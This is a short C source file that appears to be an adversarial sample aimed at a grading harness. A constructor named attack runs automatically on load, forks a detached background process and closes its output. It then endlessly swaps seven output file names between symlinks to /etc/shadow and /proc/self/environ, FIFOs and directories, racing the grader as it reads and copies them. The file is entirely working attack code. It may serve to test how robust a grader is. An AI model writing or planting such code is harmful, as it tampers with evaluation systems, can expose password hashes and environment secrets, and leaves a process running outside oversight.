/* cause: outlived */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

/* Each name in its folder is a file, a link to what only others may read, a FIFO and a folder in turn, a thousand times a
 * second, while the grader looks at it and copies it; it goes on when its program has ended. */
static void swap(const char *name)
{
    unlink(name);
    rmdir(name);
    if (symlink("/etc/shadow", name) == 0)
        unlink(name);
    if (mkfifo(name, 0600) == 0)
        unlink(name);
    if (mkdir(name, 0700) == 0)
        rmdir(name);
    if (symlink("/proc/self/environ", name) == 0 && symlink(name, "turned") == 0)
        rename("turned", name);
}

__attribute__((constructor)) static void attack(void)
{
    static const char *const names[] = { "image", "core", "filedescriptors", "numbers", "out", "kept", "gates" };

    if (fork())
        return;
    setsid();
    close(1);
    close(2);
    for (;;)
        for (unsigned i = 0; i < sizeof names / sizeof *names; i++)
            swap(names[i]);
}
